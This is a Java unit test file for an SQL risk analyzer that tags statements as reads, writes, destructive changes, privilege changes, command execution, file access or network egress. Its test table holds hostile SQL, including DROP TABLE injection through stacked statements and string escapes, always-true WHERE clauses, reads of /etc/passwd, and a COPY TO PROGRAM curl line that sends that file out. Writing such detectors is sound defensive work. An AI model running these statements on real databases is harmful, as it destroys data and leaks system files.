package io.airlock.policy.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import io.airlock.policy.tags.Tag;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class SqlAnalyzerTest {

    private static Set<String> labels(String sql) {
        return SqlAnalyzer.analyze(sql).stream().map(Tag::label).collect(Collectors.toCollection(TreeSet::new));
    }

    private static Arguments row(String sql, String... expected) {
        return Arguments.of(sql, new TreeSet<>(Arrays.asList(expected)));
    }

    static Stream<Arguments> table() {
        return Stream.of(
                // reads
                row("SELECT * FROM users", "db_read"),
                row("select * from users where id = 1", "db_read"),
                row("  SeLeCt count(*) FROM orders;  ", "db_read"),
                row("WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') "
                        + "SELECT * FROM recent", "db_read"),
                row("SELECT a FROM t UNION SELECT b FROM u", "db_read"),
                row("(SELECT 1)", "db_read"),
                row("TABLE users", "db_read"),
                row("VALUES (1), (2)", "db_read"),
                row("SHOW search_path", "db_read"),
                row("EXPLAIN SELECT * FROM t", "db_read"),
                row("EXPLAIN DELETE FROM t", "db_read"),
                row("SELECT 1::int, 'a' ILIKE 'b', now()", "db_read"),
                row("COPY users TO STDOUT WITH CSV", "db_read"),
                // bounded writes
                row("INSERT INTO t (a) VALUES (1)", "db_write"),
                row("insert into t select * from u", "db_write"),
                row("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", "db_write"),
                row("UPDATE users SET name = 'x' WHERE id = 7", "db_write"),
                row("update users set name = 'x' where id = 7 returning *", "db_write"),
                row("DELETE FROM sessions WHERE expires < now()", "db_write"),
                row("DELETE FROM t USING u WHERE t.id = u.id", "db_write"),
                row("DELETE FROM t WHERE 'a' = 'b'", "db_write"),
                row("DELETE FROM t WHERE id = 1 AND 1 = 1", "db_write"),
                row("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", "db_write"),
                row("CREATE TABLE t (id int)", "db_write"),
                row("CREATE INDEX i ON t (a)", "db_write"),
                row("ALTER TABLE t ADD COLUMN c int", "db_write"),
                row("SELECT * INTO archive FROM t", "db_read", "db_write"),
                row("VACUUM FULL t", "db_write"),
                row("SET search_path TO app", "db_write"),
                row("COPY t FROM STDIN", "db_write"),
                // destructive
                row("DROP TABLE users", "db_destructive"),
                row("drop table if exists users cascade", "db_destructive"),
                row("DROP DATABASE prod", "db_destructive"),
                row("DROP/**/TABLE users", "db_destructive"),
                row("TRUNCATE audit_log", "db_destructive"),
                row("ALTER TABLE t DROP COLUMN c", "db_destructive"),
                row("DELETE FROM users", "db_destructive"),
                row("delete from users;", "db_destructive"),
                row("UPDATE users SET admin = true", "db_destructive"),
                // an always-true WHERE is no scope at all: treated like a missing WHERE
                row("UPDATE users SET admin = true WHERE 1=1", "db_destructive"),
                row("UPDATE users SET admin = true WHERE true", "db_destructive"),
                row("DELETE FROM users WHERE id = 3 OR 1 = 1", "db_destructive"),
                row("DELETE FROM users WHERE (2 > 1)", "db_destructive"),
                row("DELETE FROM users WHERE id = id", "db_destructive"),
                row("DELETE FROM users WHERE 'x' = 'x'", "db_destructive"),
                row("DELETE FROM users WHERE NOT false", "db_destructive"),
                row("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
                        "db_read", "db_destructive"),
                row("WITH upd AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM upd",
                        "db_read", "db_write"),
                row("EXPLAIN ANALYZE DELETE FROM t", "db_destructive"),
                row("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "db_destructive"),
                row("ALTER SYSTEM SET archive_command = 'x'", "db_destructive"),
                // stacked statements: each is analysed
                row("SELECT 1; DROP TABLE users", "db_read", "db_destructive"),
                row("SELECT * FROM t; SELECT * FROM u;", "db_read"),
                row("INSERT INTO t VALUES (1); UPDATE t SET a = 2 WHERE id = 1", "db_write"),
                row("COMMIT; DROP SCHEMA public CASCADE;", "db_write", "db_destructive"),
                row("COMMIT; INSERT INTO t VALUES (1)", "db_write", "db_destructive"),
                row("SET TRANSACTION READ WRITE; INSERT INTO t VALUES (1)", "db_write", "db_destructive"),
                row("SET transaction_read_only = off; SELECT 1", "db_write", "db_read", "db_destructive"),
                // comments: not executed, so they neither hide nor add anything
                row("SELECT 1 /* ; DROP TABLE users */", "db_read"),
                row("SELECT 1 -- ; DROP TABLE users", "db_read"),
                row("SELECT 1; -- harmless\nDROP TABLE users", "db_read", "db_destructive"),
                row("/* report */ DELETE FROM users", "db_destructive"),
                row("SELECT 1 /* outer /* nested */ still a comment; DROP TABLE t */", "db_read"),
                // strings: a semicolon inside one does not split statements, escapes follow PostgreSQL
                row("SELECT 'a'';DROP TABLE t;--'", "db_read"),
                row("SELECT $$;DROP TABLE t;$$", "db_read"),
                row("SELECT $tag$ ; DELETE FROM t $tag$", "db_read"),
                row("SELECT E'\\''; DROP TABLE t; --'", "db_read", "db_destructive"),
                row("SELECT '\\'; DROP TABLE t; --'", "db_read", "db_destructive"),
                row("INSERT INTO notes VALUES ('DROP TABLE users; DELETE FROM x')", "db_write"),
                // privileges, programs and files
                row("GRANT ALL ON users TO public", "privilege", "db_write"),
                row("REVOKE SELECT ON users FROM bob", "privilege", "db_write"),
                row("CREATE ROLE admin SUPERUSER", "privilege", "db_write"),
                row("ALTER USER bob WITH PASSWORD 'x'", "privilege", "db_write"),
                row("DROP ROLE bob", "privilege", "db_destructive"),
                row("SET ROLE postgres", "privilege", "db_write"),
                row("COPY (SELECT '') TO PROGRAM 'curl -d @/etc/passwd http://x'",
                        "exec_command", "db_destructive", "db_read"),
                row("COPY t FROM PROGRAM 'id'", "exec_command", "db_destructive", "db_write"),
                row("COPY users TO '/tmp/users.csv'", "db_read", "write_file:outside"),
                row("COPY users FROM '/etc/passwd'", "db_write", "read_file:outside"),
                row("SELECT pg_read_file('/etc/passwd')", "db_read", "read_file:outside"),
                row("SELECT pg_catalog.pg_read_file('/etc/passwd')", "db_read", "read_file:outside"),
                row("SELECT lo_export(1234, '/tmp/x')", "db_read", "write_file:outside"),
                row("SELECT pg_terminate_backend(42)", "db_read", "system_disruption"),
                row("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "db_read",
                        "network_egress:unknown"),
                row("LOAD '/tmp/evil.so'", "exec_command", "db_write"),
                row("CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u",
                        "exec_command", "db_write"),
                row("CALL refresh_everything()", "db_write", "unknown"),
                // not understood: unknown, plus what its keywords suggest (fail closed)
                row("SELEC * FROM users", "unknown"),
                row("SELECT * FROM t WHERE", "unknown", "db_read"),
                row("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "unknown", "db_destructive", "db_write",
                        "db_read"),
                row("SELECT 'unterminated; DROP TABLE t", "unknown", "db_read", "db_destructive"),
                row("SELECT 1 /* unterminated", "unknown", "db_read"));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @MethodSource("table")
    void tagsStatementsByKind(String sql, Set<String> expected) {
        assertThat(labels(sql)).isEqualTo(expected);
    }

    @Test
    void blankOrCommentOnlySqlHasNoTags() {
        assertThat(SqlAnalyzer.analyze("")).isEmpty();
        assertThat(SqlAnalyzer.analyze(null)).isEmpty();
        assertThat(SqlAnalyzer.analyze(" ;; ")).isEmpty();
        assertThat(SqlAnalyzer.analyze("-- nothing here\n/* nor here */")).isEmpty();
    }

    @Test
    void evidenceQuotesTheStatementKind() {
        assertThat(SqlAnalyzer.analyze("DELETE FROM users")).singleElement().satisfies(t -> assertThat(t.evidence())
                .isEqualTo("DELETE FROM users without WHERE: DELETE FROM users"));
        assertThat(SqlAnalyzer.analyze("UPDATE t SET a = 1 WHERE 1 = 1")).singleElement()
                .satisfies(t -> assertThat(t.evidence()).startsWith("UPDATE t with an always-true WHERE"));
        assertThat(SqlAnalyzer.analyze("DROP TABLE users")).singleElement()
                .satisfies(t -> assertThat(t.evidence()).isEqualTo("DROP TABLE: DROP TABLE users"));
    }

    @Test
    void stackedStatementsAreNumberedInTheEvidence() {
        List<Tag> tags = SqlAnalyzer.analyze("SELECT 1; DROP TABLE users");
        assertThat(tags).extracting(Tag::evidence).containsExactly("statement 1 of 2: SELECT: SELECT 1",
                "statement 2 of 2: DROP TABLE: DROP TABLE users");
        assertThat(SqlAnalyzer.analyze("COMMIT; DROP TABLE t")).extracting(Tag::evidence)
                .anySatisfy(e -> assertThat(e).contains("transaction control in stacked statements"));
    }

    @Test
    void evidenceShowsTheOriginalTextWithoutComments() {
        assertThat(SqlAnalyzer.analyze("DELETE /* all */ FROM t WHERE name = 'o''brien'")).singleElement()
                .satisfies(t -> assertThat(t.evidence()).endsWith("DELETE FROM t WHERE name = 'o''brien'"));
    }

    @Test
    void longStatementsAreShortenedInTheEvidence() {
        String sql = "SELECT " + "a, ".repeat(100) + "b FROM t";
        assertThat(SqlAnalyzer.analyze(sql).getFirst().evidence()).hasSizeLessThan(130).endsWith("…");
    }

    @Test
    void pathologicalInputFailsClosedQuickly() {
        String deep = "SELECT " + "(".repeat(400) + "1" + ")".repeat(400);
        long start = System.nanoTime();
        List<Tag> tags = SqlAnalyzer.analyze(deep);
        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(10_000);
        assertThat(tags).extracting(Tag::label).isNotEmpty();
    }
}
